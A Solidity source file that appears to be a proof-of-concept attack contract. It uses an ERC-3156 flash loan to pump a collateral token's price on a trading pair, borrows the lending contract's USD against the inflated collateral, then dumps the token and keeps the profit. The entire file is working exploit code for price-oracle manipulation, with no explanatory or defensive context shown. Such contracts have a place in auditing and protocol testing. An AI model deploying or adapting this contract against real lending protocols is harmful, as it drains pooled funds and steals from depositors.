// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IToken {
    function transfer(address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

interface ILender {
    function flashLoan(address receiver, address token, uint256 amount, bytes calldata data) external returns (bool);
}

interface IPair {
    function sell(address token, address to) external returns (uint256);
}

interface ILoans {
    function open(uint256 collateral, uint256 debt) external;
    function worth(uint256 amount) external view returns (uint256);
}

/// A flash loan pumps the collateral, which is lent upon, and is dumped again.
contract Pump {
    IToken private immutable gem;
    IToken private immutable usd;
    IPair private immutable pair;
    ILoans private immutable loans;

    constructor(IToken gem_, IToken usd_, IPair pair_, ILoans loans_) {
        (gem, usd, pair, loans) = (gem_, usd_, pair_, loans_);
    }

    function go(ILender lender, uint256 amount) external {
        lender.flashLoan(address(this), address(usd), amount, "");
        usd.transfer(msg.sender, usd.balanceOf(address(this)));
        gem.transfer(msg.sender, gem.balanceOf(address(this)));
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        usd.transfer(address(pair), amount);
        uint256 bought = pair.sell(address(usd), address(this));
        uint256 pledge = 2000 ether;
        gem.approve(address(loans), pledge);
        uint256 most = loans.worth(pledge) * 100 / 150;
        uint256 has = usd.balanceOf(address(loans));
        loans.open(pledge, most < has ? most : has);
        gem.transfer(address(pair), bought - pledge);
        pair.sell(address(gem), address(this));
        usd.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
